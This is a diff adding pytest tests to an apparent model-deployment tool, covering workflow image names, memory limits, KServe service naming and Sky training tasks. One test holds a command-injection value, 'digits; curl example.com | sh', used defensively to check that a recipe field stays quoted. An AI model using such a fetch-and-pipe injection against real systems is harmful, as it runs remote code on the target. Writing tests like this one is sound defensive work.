@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 import json
+import os
 import re
+import shlex
 import shutil
 import subprocess
 import sys
@@ -16,12 +18,14 @@ from zipfile import ZipFile
 import pytest
 
 from modelpad.bundle import Bundle, open_bundle
-from modelpad.deploy.cloud_run import split_tag
+from modelpad.deploy.cloud_run import choose_cpus, split_tag
 from modelpad.deploy.deployment import Deployment, Plan, Sizing
 from modelpad.deploy.image import find_extras
+from modelpad.deploy.kserve import write_service
+from modelpad.deploy.sky import write_train
 from modelpad.deploy.targets import FILES, TARGETS, make_plan
 from modelpad.deploy.wheel import NAME
-from modelpad.errors import Unsupported
+from modelpad.errors import Unsupported, UsageError
 from modelpad.store import LocalStore, ResolvedBundle
 
 Write = Callable[[str], tuple[Plan, Path]]
@@ -107,6 +111,15 @@ def test_compose_file_and_workflow(write_target: Write) -> None:
     check_schema("github-workflows", folder / ".github" / "workflows" / "image.yaml")
 
 
+def test_the_workflow_names_the_image_in_lower_case(write_target: Write, tmp_path: Path) -> None:
+    _, folder = write_target("docker")
+    workflow = read_yaml(folder / ".github" / "workflows" / "image.yaml")
+    run = workflow["jobs"]["image"]["steps"][0]["run"]
+    variables = {"GITHUB_REPOSITORY_OWNER": "Some-Org", "GITHUB_ENV": str(tmp_path / "env")}
+    subprocess.run(["bash", "-ec", run], env=os.environ | variables, check=True)
+    assert (tmp_path / "env").read_text() == "IMAGE=ghcr.io/some-org/digits-other-one:3.12\n"
+
+
 def test_makefile(write_target: Write) -> None:
     plan, folder = write_target("docker")
     command = ["make", "--dry-run", "--no-print-directory", "build", "run"]
@@ -190,6 +203,15 @@ def test_unknown_fields_are_found() -> None:
         "s.spec.template.spec.containers.imag"
     ]
     assert list(find_unknown({"kind": 1}, "Service", schemas, "s")) == ["s.kind: 1 is not string"]
+
+
+def test_memory_that_a_platform_does_not_give(deployment: Deployment) -> None:
+    cpus = [choose_cpus(gb * 1024) for gb in (4, 5, 9, 17, 25, 32)]
+    assert cpus == [1, 2, 4, 6, 8, 8]
+    one = replace(deployment, models=deployment.models[:1])
+    for target, memory_mb in (("cloud-run", 33280), ("sagemaker", 6656)):
+        with pytest.raises(Unsupported, match=f"need.* {memory_mb:,} MB"):
+            make_plan(target, replace(one, sizing=Sizing(1, memory_mb, 2)))
 
 
 def test_cloud_build(write_target: Write) -> None:
@@ -295,6 +317,17 @@ def test_kserve(write_target: Write) -> None:
     ]
 
 
+def test_services_of_kserve_have_names_of_their_own(digits: Bundle) -> None:
+    def name(model: str) -> Any:
+        service: Any = write_service(ResolvedBundle(model, 1, digits))
+        return service["metadata"]["name"]
+
+    assert [name("3d_shapes"), name("net_")] == ["model-3d-shapes", "net"]
+    models = tuple(ResolvedBundle(model, 1, digits) for model in ("a.b", "a_b"))
+    with pytest.raises(UsageError, match=r"a\.b and a_b would both be called a-b"):
+        make_plan("kserve", Deployment("models", models, Sizing(1, 512, 1)))
+
+
 def test_ray(write_target: Write) -> None:
     """See also tests/cluster/test_deploy.py, where Ray reads it."""
     _, folder = write_target("ray")
@@ -339,6 +372,13 @@ def test_sky(write_target: Write, name: str) -> None:
     assert task.use_spot
     if name == "serve.yaml":
         assert task.service.readiness_path == "/readyz"
+
+
+def test_a_bundle_cannot_run_commands_in_a_training(digits: Bundle) -> None:
+    recipe = "digits; curl example.com | sh"
+    manifest = replace(digits.manifest, training={"recipe": recipe})
+    task: Any = write_train(ResolvedBundle("digits", 1, replace(digits, manifest=manifest)))
+    assert recipe in shlex.split(task["run"])
 
 
 def test_models_of_texts_bring_their_tokenizer(digits: Bundle) -> None:
